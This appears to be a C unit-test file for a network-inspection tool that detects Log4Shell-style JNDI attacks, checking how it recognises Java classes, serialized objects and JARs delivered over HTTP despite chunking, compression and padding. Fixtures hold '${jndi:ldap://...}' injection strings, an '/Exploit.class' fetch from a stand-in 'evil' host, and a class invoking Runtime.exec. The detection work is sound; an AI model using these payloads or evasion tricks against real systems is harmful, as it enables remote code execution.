/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Java code on its way, in HTTP/1: what a body is, whatever its headers say, and what becomes of it. */
#include <sha256.h>
#include <stdio.h>
#include <stdlib.h>

#include "inspect/hold.h"
#include "support/http_talk.h"
#include "support/pack.h"

static const char class_file[] = "\xca\xfe\xba\xbe\0\0\0\x34\0\3"
                                 "\1\0\7Exploit\7\0\1"
                                 "\0\x21\0\2\0\0rest of the file";
static const char object[] = "\xac\xed\0\5sr\0\7a.Bcdef\0\0\0\0\0\0\0\1\2\0\0xp";

static void test_class_file(void **state)
{
    static const struct turn turns[] = {
        {CLIENT, "GET /Exploit.class HTTP/1.1\r\nUser-Agent: Java/1.8.0_181\r\nHost: evil:8000\r\n\r\n", 0},
        {SERVER, "HTTP/1.0 200 OK\r\nContent-Type: application/java-vm\r\n\r\n", 0},
        {SERVER, class_file, sizeof class_file - 1},
    };
    static const struct turn chunked[] = {
        {CLIENT, "GET /Exploit.class HTTP/1.1\r\nUser-Agent: Java/1.8.0_181\r\nHost: evil:8000\r\n\r\n", 0},
        {SERVER,
         "HTTP/1.1 200 OK\r\nContent-Type: application/java-vm\r\nTransfer-Encoding: "
         "chunked\r\n\r\n3\r\n\xca\xfe\xba\r\n29\r\n",
         0},
        {SERVER, class_file + 3, 41},
        {SERVER, "\r\n0\r\n\r\n", 0},
    };
    const char *fact =
        "0 %zu bytes jndi.stage=class_delivery java.content=class java.client=yes http.method=GET "
        "http.uri=/Exploit.class http.host=evil:8000 http.user_agent=Java/1.8.0_181 "
        "http.content_type=application/java-vm http.stat_code=200 java.fetch=delivered "
        "java.sha256=%s java.class=Exploit java.version=8\n";
    struct http_record *r = TALK(turns);
    char want[512];

    (void)state;
    snprintf(want, sizeof want, fact, sizeof class_file - 1,
             "6c18243fbfd7305350e9377f34cda318c384bef329c5754cddeadb4f4c9c706e");
    assert_text(r, FIELD_FACT, want);
    http_record_free(r);
    r = TALK(chunked);
    snprintf(want, sizeof want, fact, (size_t)44,
             "f7f1b02a44ee8c77983d4d14923139629365837f5a1f62fd77c8f4269dc16a2f");
    assert_text(r, FIELD_FACT, want);
    http_record_free(r);
    assert_int_equal(holds_bytes(), 0);
}

static void test_object(void **state)
{
    static const struct turn turns[] = {
        {CLIENT, "GET /o HTTP/1.1\r\nUser-Agent: curl\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 28\r\n\r\n", 0},
        {SERVER, object, sizeof object - 1},
    };
    struct http_record *r = TALK(turns);

    (void)state;
    assert_int_equal(sizeof object - 1, 28);
    assert_text(
        r, FIELD_FACT,
        "0 28 bytes jndi.stage=deserialization java.content=serialized java.client=no http.method=GET "
        "http.uri=/o http.user_agent=curl http.stat_code=200 java.fetch=delivered "
        "java.sha256=79d9fcd1232235456610e6f293d981ba216f84507a25bc820770db40855b78bd java.class=a.Bcdef\n");
    http_record_free(r);
}

/* What a JVM asked for may have it anywhere, behind whatever looks like it; what others asked for, at its
 * beginning only. */
static void test_java_inside(void **state)
{
    static const char junk[] = "GIF89a\xca\xca\xfe\xac\xed\0\6\xca\xfe\xba\xbe\0\0\0\2\xac";
    static const char *const agents[] = {"Java/17.0.15", "Java-http-client/17.0.15",
                                         "Mozilla/4.0 Java/1.8.0_181"};
    struct turn turns[] = {
        {CLIENT, NULL, 0},
        {SERVER, "HTTP/1.1 200 OK\r\n\r\n", 0},
        {SERVER, junk, sizeof junk - 1},
        {SERVER, object, sizeof object - 1},
        {SERVER, junk, sizeof junk - 1},
    };
    struct http_record *r;
    char request[128];

    (void)state;
    turns[0].text = request;
    for (size_t i = 0; i < sizeof agents / sizeof *agents; i++) {
        snprintf(request, sizeof request, "GET /o HTTP/1.1\r\nUser-Agent: %s\r\n\r\n", agents[i]);
        r = TALK(turns);
        assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.content=serialized java.client=yes")));
        assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.class=a.Bcdef\n")));
        http_record_free(r);
        turns[3] = (struct turn){SERVER, class_file, sizeof class_file - 1};
        r = TALK(turns);
        assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.content=class java.client=yes")));
        assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.class=Exploit java.version=8\n")));
        http_record_free(r);
        turns[3] = (struct turn){SERVER, object, sizeof object - 1};
    }
    snprintf(request, sizeof request, "GET /o HTTP/1.1\r\nUser-Agent: curl\r\n\r\n");
    r = TALK(turns);
    assert_text(r, FIELD_FACT, "");
    http_record_free(r);
    assert_int_equal(holds_bytes(), 0);
}

static void test_no_java(void **state)
{
    static const struct turn bodies[] = {
        {SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\n\xca\xfe\xba\xbe\0\0\0\2",
         46},                                                                        /* Mach-O, two parts */
        {SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\n\xca\xfe\xba\xbe", 0}, /* cannot be told */
        {SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\n\xac\xed\0", 41},
        {SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx", 0},
    };
    struct http_record *r = TALK(bodies);

    (void)state;
    assert_text(r, FIELD_FACT, "");
    assert_int_equal(counters[COUNT_HTTP_RESPONSES], 4);
    http_record_free(r);
}

/* A class acts once it is there: the FACT waits for its end. */
static void test_long_class(void **state)
{
    struct http_record *r = http_record_new();
    uint8_t body[40000] = {0};

    (void)state;
    memcpy(body, class_file, 8);
    body[8] = 0, body[9] = 4;
    body[10] = 1, body[11] = 0x0b, body[12] = 0xb8; /* a constant of 3000 bytes */
    memcpy(body + 3013, class_file + 10, 13);       /* Utf8, and a Class of constant 1: ours is 2 */
    body[3025] = 2;
    memcpy(body + 3026, "\0\x21\0\3", 4);
    http_record_feed(r, SERVER, BYTES_LIT("HTTP/1.1 200 OK\r\n\r\n"), 0, false);
    http_record_feed(r, SERVER, bytes_of(body, 3000), 0, false);
    assert_text(r, FIELD_FACT, "");
    http_record_feed(r, SERVER, bytes_of(body + 3000, 2000), 0, false);
    assert_text(r, FIELD_FACT, "");
    http_record_feed(r, SERVER, bytes_of(body, sizeof body), 0, true);
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("0 2048 bytes")));
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.class=Exploit java.version=8\n")));
    assert_int_equal(r->of[FIELD_FACT].len, strcspn((char *)r->of[FIELD_FACT].p, "\n") + 1);
    http_record_free(r);
}

static void put16(struct buf *out, unsigned value)
{
    assert_true(buf_add_byte(out, (uint8_t)(value >> 8)) && buf_add_byte(out, (uint8_t)value));
}

/* A class of 200 KB and more constants than anybody writes, of which the last ones say what it does. */
static void add_stuffed_class(struct buf *out)
{
    enum { STUFFING = 33000, LONG_TEXT = 0xa000 };

    assert_true(buf_add(out, bytes_of(class_file, 8)));
    put16(out, STUFFING + 9);
    for (unsigned i = 0; i < STUFFING; i++)
        assert_true(buf_add(out, BYTES_LIT("\3\0\0\0\1"))); /* an Integer */
    assert_true(buf_add(out, BYTES_LIT("\1\xa0\0")));
    for (unsigned i = 0; i < LONG_TEXT; i++)
        assert_true(buf_add_byte(out, 'x'));
    assert_true(buf_add(out, BYTES_LIT("\1\0\x11java/lang/Runtime\7")));
    put16(out, STUFFING + 2);
    assert_true(buf_add(out, BYTES_LIT("\1\0\4exec\x0c")));
    put16(out, STUFFING + 4);
    put16(out, STUFFING + 4);
    assert_true(buf_add(out, BYTES_LIT("\x0a")));
    put16(out, STUFFING + 3);
    put16(out, STUFFING + 5);
    assert_true(buf_add(out, BYTES_LIT("\1\0\x0etouch /tmp/pwn\x08")));
    put16(out, STUFFING + 7);
    assert_true(buf_add(out, BYTES_LIT("\0\x21\0\0\0\0\0\0\0\0\0\0\0\0")));
}

static void test_stuffed_class(void **state)
{
    struct http_record *r = http_record_new();
    struct buf body = buf_within(1 << 20);
    char sum[FILE_SHA256_TEXT], want[128];

    (void)state;
    add_stuffed_class(&body);
    assert_true(body.len > 200 * 1024);
    SHA256Data(body.p, body.len, sum);
    http_record_feed(r, SERVER, BYTES_LIT("HTTP/1.1 200 OK\r\n\r\n"), 0, false);
    for (size_t at = 0; at < body.len; at += 1400)
        http_record_feed(r, SERVER, bytes_slice(buf_bytes(&body), at, at + 1400), 0, false);
    http_record_feed(r, SERVER, BYTES_LIT(""), 0, true);
    snprintf(want, sizeof want, "java.sha256=%s ", sum);
    assert_true(http_record_has(r, FIELD_FACT, bytes_str(want)));
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.api=Runtime.exec")));
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.command=touch /tmp/pwn")));
    http_record_free(r);
    buf_drop(&body);
    assert_int_equal(holds_bytes(), 0);
}

/* What an object brings may lie behind a long string. */
static void test_stuffed_object(void **state)
{
    struct http_record *r = http_record_new();
    struct buf body = buf_within(1 << 20);

    (void)state;
    assert_true(buf_add(&body, BYTES_LIT("\xac\xed\0\5\x74\xff\xf0")));
    for (unsigned i = 0; i < 0xfff0; i++)
        assert_true(buf_add_byte(&body, 'x'));
    assert_true(buf_add(&body, bytes_of(object + 4, sizeof object - 1 - 4)));
    http_record_feed(r, SERVER, BYTES_LIT("HTTP/1.1 200 OK\r\n\r\n"), 0, false);
    for (size_t at = 0; at < body.len; at += 1400)
        http_record_feed(r, SERVER, bytes_slice(buf_bytes(&body), at, at + 1400), 0, false);
    http_record_feed(r, SERVER, BYTES_LIT(""), 0, true);
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.class=a.Bcdef")));
    http_record_free(r);
    buf_drop(&body);
}

/* ... or for so much of it that nobody waits any longer; then there is no hash. */
static void test_endless_class(void **state)
{
    static const uint8_t more[65536];
    struct http_record *r = http_record_new();

    (void)state;
    http_record_feed(r, SERVER, BYTES_LIT("HTTP/1.1 200 OK\r\n\r\n"), 0, false);
    http_record_feed(r, SERVER, bytes_of(class_file, sizeof class_file - 1), 0, false);
    for (unsigned i = 0; i < 15; i++)
        http_record_feed(r, SERVER, bytes_of(more, sizeof more), 0, false);
    assert_text(r, FIELD_FACT, "");
    http_record_feed(r, SERVER, bytes_of(more, sizeof more), 0, false);
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.fetch=delivered java.class=Exploit")));
    http_record_feed(r, SERVER, bytes_of(more, sizeof more), 0, true);
    assert_int_equal(r->of[FIELD_FACT].len, strcspn((char *)r->of[FIELD_FACT].p, "\n") + 1);
    http_record_free(r);
}

#define JAR_HEAD "PK\3\4\x14\0\x08\x08\x08\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"

static void test_jar(void **state)
{
    static const char jar[] =
        JAR_HEAD "\x14\0\0\0META-INF/MANIFEST.MFxxxx" JAR_HEAD "\x0b\0\0\0a/Bad.classxyz";
    static const char zip[] = JAR_HEAD "\x05\0\0\0a.txtxxxx" JAR_HEAD "\x05\0\0\0b.txtxyz";
    static const struct turn turns[] = {
        {CLIENT, "GET /x HTTP/1.1\r\nUser-Agent: curl\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 98\r\n\r\n", 0},
        {SERVER, jar, sizeof jar - 1},
    };
    static const struct turn plain[] = {
        {CLIENT, "GET /x HTTP/1.1\r\nUser-Agent: curl\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 200 OK\r\n\r\n", 0},
        {SERVER, zip, sizeof zip - 1},
    };
    struct http_record *r = TALK(turns);

    (void)state;
    assert_int_equal(sizeof jar - 1, 98);
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.content=jar java.client=no")));
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.class=a/Bad\n")));
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.sha256=")));
    http_record_free(r);
    r = TALK(plain);
    assert_text(r, FIELD_FACT, "");
    http_record_free(r);
}

/* Byte by byte, compressed, and what the client or the name says decides whether it is unpacked at all. */
static void test_packed_class(void **state)
{
    static const struct {
        const char *request, *type;
        bool found;
    } rows[] = {
        {"GET /a HTTP/1.1\r\nUser-Agent: Java/17.0.15\r\n\r\n", "Content-Type: text/html\r\n", true},
        {"GET /a.class?x HTTP/1.1\r\nUser-Agent: curl\r\n\r\n", "Content-Type: text/html\r\n", true},
        {"GET /a HTTP/1.1\r\nUser-Agent: curl\r\n\r\n", "", true},
        {"GET /a HTTP/1.1\r\nUser-Agent: curl\r\n\r\n", "Content-Type: text/html\r\n", false},
    };
    struct buf packed = buf_within(1 << 20);

    (void)state;
    pack(PACK_GZIP, bytes_of(class_file, sizeof class_file - 1), 6, &packed);
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++)
        for (size_t step = 1; step <= packed.len; step += packed.len - 1) {
            struct http_record *r = http_record_new();
            char head[256];

            snprintf(head, sizeof head,
                     "HTTP/1.1 200 OK\r\n%sContent-Encoding: gzip\r\nContent-Length: %zu\r\n\r\n",
                     rows[i].type, packed.len);
            http_record_feed(r, CLIENT, bytes_str(rows[i].request), 0, false);
            http_record_feed(r, SERVER, bytes_str(head), 0, false);
            for (size_t at = 0; at < packed.len; at += step)
                http_record_feed(r, SERVER, bytes_slice(buf_bytes(&packed), at, at + step), 0, false);
            assert_int_equal(http_record_has(r, FIELD_FACT, BYTES_LIT("java.class=Exploit java.version=8\n")),
                             rows[i].found);
            http_record_free(r);
        }
    buf_drop(&packed);
}

/* Whatever way an answer is packed, labelled or not and in whatever pieces, its beginning is shown; and no
 * more of it than of a plain one. */
static void test_packed_answer(void **state)
{
    static const char *const labels[PACK_N] = {"gzip", "deflate", "deflate", "zstd", "br"};
    const struct bytes attack = BYTES_LIT("x=${jndi:ldap://h/a}");
    struct buf plain = buf_within(1 << 20);

    (void)state;
    buf_add(&plain, attack);
    for (unsigned i = 0; i < 4000; i++)
        buf_addf(&plain, "<p>%u</p>", i * 7919);
    buf_add_str(&plain, "${jndi:ldap://h/late}");
    for (unsigned how = 0; how < PACK_N; how++)
        for (size_t step = 1; step < 1000; step += 998) {
            struct http_record *r = http_record_new();
            struct buf all = buf_within(1 << 20), packed = buf_within(1 << 20);

            count_reset();
            pack((enum packing)how, buf_bytes(&plain), 6, &packed);
            buf_addf(&all, "HTTP/1.1 200 OK\r\nContent-Encoding: %s\r\nContent-Length: %zu\r\n\r\n",
                     labels[how], packed.len);
            buf_add(&all, buf_bytes(&packed));
            buf_add_str(&all, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nnext");
            http_record_steps(r, SERVER, buf_bytes(&all), step);
            http_record_end(r);
            assert_true(http_record_has(r, FIELD_HTTP_RESPONSE_BODY, attack));
            assert_false(http_record_delivers(r, BYTES_LIT("h/late")));
            assert_true(http_record_has(r, FIELD_HTTP_RESPONSE_BODY, BYTES_LIT("=next\n")));
            assert_true(r->of[FIELD_HTTP_RESPONSE_BODY].len < r->config.http_response_body_limit + 100);
            assert_true(counters[COUNT_HTTP_RESPONSE_SKIPPED] > 0);
            assert_int_equal(counters[COUNT_HTTP_BAD_CODING] + counters[COUNT_HTTP_BOMB], 0);
            http_record_free(r);
            buf_drop(&all);
            buf_drop(&packed);
        }
    buf_drop(&plain);
}

static void test_packed_answer_of_another_label(void **state)
{
    const struct bytes attack = BYTES_LIT("${jndi:ldap://h/a}");
    static const char *const labels[] = {"", "Content-Encoding: br\r\n", "Content-Encoding: unheard-of\r\n"};

    (void)state;
    for (size_t i = 0; i < sizeof labels / sizeof *labels; i++)
        for (unsigned packs = 0; packs < 2; packs++) {
            struct http_record *r = http_record_new();
            struct buf packed = buf_within(1 << 20);

            buf_addf(&packed, "HTTP/1.1 200 OK\r\n%s\r\n", labels[i]);
            if (packs)
                pack(PACK_GZIP, attack, 6, &packed);
            else
                buf_add(&packed, attack);
            http_record_feed(r, SERVER, buf_bytes(&packed), 0, false);
            http_record_end(r);
            assert_true(http_record_has(r, FIELD_HTTP_RESPONSE_BODY, attack));
            http_record_free(r);
            buf_drop(&packed);
        }
}

static void test_packed_answers_can_be_left(void **state)
{
    struct http_record *r = http_record_new();
    struct buf packed = buf_within(1 << 20);

    (void)state;
    r->config.http_decompress_responses = false;
    buf_add_str(&packed, "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n");
    pack(PACK_GZIP, BYTES_LIT("${jndi:ldap://h/a}"), 6, &packed);
    http_record_feed(r, SERVER, buf_bytes(&packed), 0, false);
    http_record_end(r);
    assert_false(http_record_delivers(r, BYTES_LIT("${jndi:ldap://h/a}")));
    http_record_free(r);
    buf_drop(&packed);
}

static void test_fetch_that_leads_nowhere(void **state)
{
    static const struct turn turns[] = {
        {CLIENT, "GET /A.class HTTP/1.1\r\nUser-Agent: Java/1.8.0_181\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 302 Found\r\nLocation: http://203.0.113.9/b.class\r\nContent-Length: 0\r\n\r\n",
         0},
        {CLIENT, "GET /b.class HTTP/1.1\r\nUser-Agent: Java/1.8.0_181\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 404 Not Found\r\nContent-Length: 1\r\n\r\nx", 0},
        {CLIENT, "GET /c HTTP/1.1\r\nUser-Agent: Java/1.8.0_181\r\n\r\n", 0}, /* no class: nobody's affair */
        {SERVER, "HTTP/1.1 404 Not Found\r\nContent-Length: 1\r\n\r\nx", 0},
        {CLIENT, "GET /d.class HTTP/1.1\r\nUser-Agent: curl\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 404 Not Found\r\nContent-Length: 1\r\n\r\nx", 0},
    };
    struct http_record *r = TALK(turns);

    (void)state;
    assert_true(http_record_has(r, FIELD_FACT,
                                BYTES_LIT("http.stat_code=302 java.fetch=redirected "
                                          "http.location=http://203.0.113.9/b.class\n")));
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("http.stat_code=404 java.fetch=failed\n")));
    assert_false(http_record_has(r, FIELD_FACT, BYTES_LIT("http.uri=/c")));
    assert_false(http_record_has(r, FIELD_FACT, BYTES_LIT("http.uri=/d.class")));
    http_record_free(r);
}

/* URLConnection gives a class loader what comes with 200, or with a redirection that it does not follow; the
 * page of an error is thrown away. */
static void test_class_that_is_not_read(void **state)
{
    static const struct {
        const char *path, *agent, *answer, *fact;
    } rows[] = {
        {"/A.class", "Java/17.0.15", "404 No\r\n", ""},
        {"/A.class", "Java/17.0.15", "500 No\r\n", ""},
        {"/A.class", "Java/17.0.15", "302 Found\r\nLocation: /b\r\n", ""},
        {"/a", "Java/17.0.15", "404 No\r\n", "callback java.content=class @ java.fetch=failed"},
        {"/a", "Java/17.0.15", "302 Found\r\nLocation: /b\r\n",
         "callback java.content=class @ java.fetch=redirected"},
        {"/A.class", "Java/17.0.15", "302 Found\r\nLocation: https://b/\r\n",
         "class_delivery java.content=class @ java.fetch=delivered"},
        {"/A.class", "Java/17.0.15", "302 Found\r\nLocation: /b\r\nlocation: https://b/\r\n",
         "class_delivery java.content=class @ java.fetch=delivered"}, /* by the last one */
        {"/A.class", "Java/17.0.15", "302 Found\r\nLocation: https://b/\r\nLocation: /b\r\n", ""},
        {"/A.class", "Java/17.0.15", "101 Switching\r\nUpgrade: websocket\r\n",
         "class_delivery java.content=class @ java.fetch=delivered"},
        {"/A.class", "Java/17.0.15", "102 Processing\r\n",
         "class_delivery java.content=class @ java.fetch=delivered"},
        {"/A.class", "Java/17.0.15", "199 x\r\nConnection: close\r\n",
         "class_delivery java.content=class @ java.fetch=delivered"},
        {"/A.class", "a/1 (Java/17.0.15)", "101 Switching\r\n", ""},
        {"/A.class", "Java/17.0.15", "302 Found\r\n",
         "class_delivery java.content=class @ java.fetch=delivered"},
        {"/A.class", "Java/17.0.15", "308 Found\r\nLocation: http://b/\r\n",
         "class_delivery java.content=class @ java.fetch=delivered"},
        /* Others keep what they get. */
        {"/A.class", "Java-http-client/17.0.15", "404 No\r\n",
         "class_delivery java.content=class @ java.fetch=delivered"},
        {"/A.class", "curl/7.88.1", "404 No\r\n", "class_delivery java.content=class @ java.fetch=delivered"},
    };
    char request[128], head[128], fact[256];

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        bool jvm = strstr(rows[i].agent, "Java");
        const char *at = strchr(rows[i].fact, '@');
        const struct turn turns[] = {
            {CLIENT, request, 0}, {SERVER, head, 0}, {SERVER, class_file, sizeof class_file - 1}};
        struct http_record *r;

        snprintf(request, sizeof request, "GET %s HTTP/1.1\r\nUser-Agent: %s\r\n\r\n", rows[i].path,
                 rows[i].agent);
        snprintf(head, sizeof head, "HTTP/1.1 %sContent-Length: %zu\r\n\r\n", rows[i].answer,
                 sizeof class_file - 1);
        r = TALK(turns);
        snprintf(fact, sizeof fact,
                 "jndi.stage=%.*sjava.client=%s http.method=GET http.uri=%s http.user_agent=%s "
                 "http.stat_code=%.3s%s",
                 at ? (int)(at - rows[i].fact) : 0, rows[i].fact, jvm ? "yes" : "no", rows[i].path,
                 rows[i].agent, rows[i].answer, at ? at + 1 : "");
        if (at && !http_record_has(r, FIELD_FACT, bytes_str(fact)))
            fail_msg("no %s in %.*s", fact, (int)r->of[FIELD_FACT].len, (const char *)r->of[FIELD_FACT].p);
        if (!at && http_record_has(r, FIELD_FACT, BYTES_LIT("java.content")))
            fail_msg("%s, %s", rows[i].path, rows[i].answer);
        http_record_free(r);
    }
    assert_int_equal(holds_bytes(), 0);
}

/* By the headers that URLConnection goes by. */
static void test_framed_for_a_jvm(void **state)
{
    static const char *const heads[] = {
        "Content-Length: 0\r\nContent-Length: 45\r\n",
        "Content-Length: 5\r\nContent-Length: 45\r\n",
        "Content-Length: 45\r\nTransfer-Encoding: x, chunked\r\n",
        "Content-Length: 45\r\nTransfer-Encoding: gzip, chunked\r\n",
    };

    (void)state;
    assert_int_equal(sizeof class_file - 1, 45);
    for (size_t i = 0; i < sizeof heads / sizeof *heads; i++) {
        char head[128];
        const struct turn turns[] = {{CLIENT, "GET /A.class HTTP/1.1\r\nUser-Agent: Java/17.0.15\r\n\r\n", 0},
                                     {SERVER, head, 0},
                                     {SERVER, class_file, sizeof class_file - 1}};
        struct http_record *r;

        snprintf(head, sizeof head, "HTTP/1.1 200 OK\r\n%s\r\n", heads[i]);
        r = TALK(turns);
        if (!http_record_has(r, FIELD_FACT, BYTES_LIT("java.class=Exploit")))
            fail_msg("%s", heads[i]);
        http_record_free(r);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_class_file),
        cmocka_unit_test(test_object),
        cmocka_unit_test(test_java_inside),
        cmocka_unit_test(test_no_java),
        cmocka_unit_test(test_long_class),
        cmocka_unit_test(test_stuffed_class),
        cmocka_unit_test(test_stuffed_object),
        cmocka_unit_test(test_endless_class),
        cmocka_unit_test(test_jar),
        cmocka_unit_test(test_packed_class),
        cmocka_unit_test(test_packed_answer),
        cmocka_unit_test(test_packed_answer_of_another_label),
        cmocka_unit_test(test_packed_answers_can_be_left),
        cmocka_unit_test(test_fetch_that_leads_nowhere),
        cmocka_unit_test(test_class_that_is_not_read),
        cmocka_unit_test(test_framed_for_a_jvm),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
